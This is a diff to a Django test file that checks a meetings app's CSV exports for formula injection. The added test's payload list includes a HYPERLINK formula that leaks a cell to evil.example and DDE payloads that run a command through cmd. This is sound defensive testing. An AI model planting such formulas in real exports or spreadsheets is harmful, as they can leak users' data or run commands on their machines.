@@ -1,5 +1,6 @@
 """CSV attendance register and the PDF meeting pack, Arabic included."""
 
+import csv
 import io
 
 import arabic_reshaper
@@ -7,14 +8,17 @@ import pytest
 from django.urls import reverse
 from pypdf import PdfReader
 
+from meetings.models import ActionPoint
 from meetings.pack import visual
 from meetings.services import (
+    action_point_report,
     attendance_record,
     decision_add,
     minutes_approve,
     minutes_publish,
     minutes_save,
 )
+from members.services import person_update
 from tests.pages.conftest import login
 
 pytestmark = pytest.mark.django_db
@@ -86,3 +90,35 @@ def test_meeting_pack_in_arabic_is_shaped_and_right_to_left(client, cast, held):
     assert ARABIC_MINUTES not in text
     assert arabic_reshaper.reshape("اعتماد مسار الإحالة") in text
     assert visual(ARABIC_MINUTES) not in text
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_no_export_cell_is_a_live_formula(client, cast, held, payload):
+    action_point = ActionPoint.objects.get(meeting=held)
+    action_point_report(action_point=action_point, progress=payload, by=cast.secretariat)
+    person_update(person=cast.member_person, position=payload, by=None)
+    attendance_record(meeting=held, person=cast.member_person, by=cast.secretariat)
+    login(client, cast, "secretariat")
+
+    exports = [
+        client.get(reverse("action-point-csv")),
+        client.get(reverse("meeting-attendance-csv", args=[held.pk])),
+    ]
+
+    for export in exports:
+        rows = list(
+            csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline=""), strict=True)
+        )
+        cells = [cell for row in rows for cell in row]
+        assert "'" + payload in cells
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
